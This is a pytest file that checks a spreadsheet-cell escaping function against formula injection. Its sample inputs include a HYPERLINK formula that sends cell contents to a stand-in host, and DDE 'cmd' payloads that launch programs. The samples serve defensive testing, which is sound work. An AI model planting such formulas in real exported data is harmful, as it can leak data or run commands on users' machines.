"""Texts are no formulas in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import pytest

from decoders.spreadsheet import cell

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "+", "--1"),
    *('=HYPERLINK("http://x/?"&A1)', "=cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0", "-nan", "-inf"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "+996 555", "-1e", "-1.", "-٣"),
)
OTHERS = ("", "-3.5", "+3", "-3,5", "-1e-05", "-1.5E+10", "3-1", "a=1", "'", "'=1", "ТАЛАС", " =1")


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_a_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", OTHERS, ids=ascii)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert cell(text) == text
